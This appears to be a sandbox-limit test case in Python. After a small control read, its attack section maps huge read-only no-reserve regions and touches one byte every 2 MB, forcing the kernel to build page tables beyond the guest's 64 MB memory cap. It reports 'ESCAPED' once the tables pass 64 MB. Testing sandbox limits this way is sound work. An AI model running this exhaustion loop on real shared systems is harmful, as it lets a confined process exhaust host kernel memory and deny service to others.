"""Reads a byte in each 2 MB of an endless read-only mapping: each costs the kernel a page of tables.

Escape: the kernel holds far more for the guest than memory_mb
Control: a read-only mapping can be read
Limits: memory_mb=64, wall_s=8
"""

# control
import mmap

quiet = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
quiet[0] == 0

# attack
NORESERVE, step = 0x4000, 2 << 20
tables_kb = 0
mappings = []
try:
    for size in (64 << 30, 16 << 30, 4 << 30, 1 << 30, 256 << 20):
        try:
            while tables_kb < 128 << 10:
                mapping = mmap.mmap(
                    -1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE, prot=mmap.PROT_READ
                )
                mappings.append(mapping)
                for i in range(0, size, step):
                    mapping[i]
                    tables_kb += 4
        except (OSError, MemoryError):
            continue
except MemoryError:
    pass
f"ESCAPED: {tables_kb >> 10} MB of page tables" if tables_kb > 64 << 10 else tables_kb
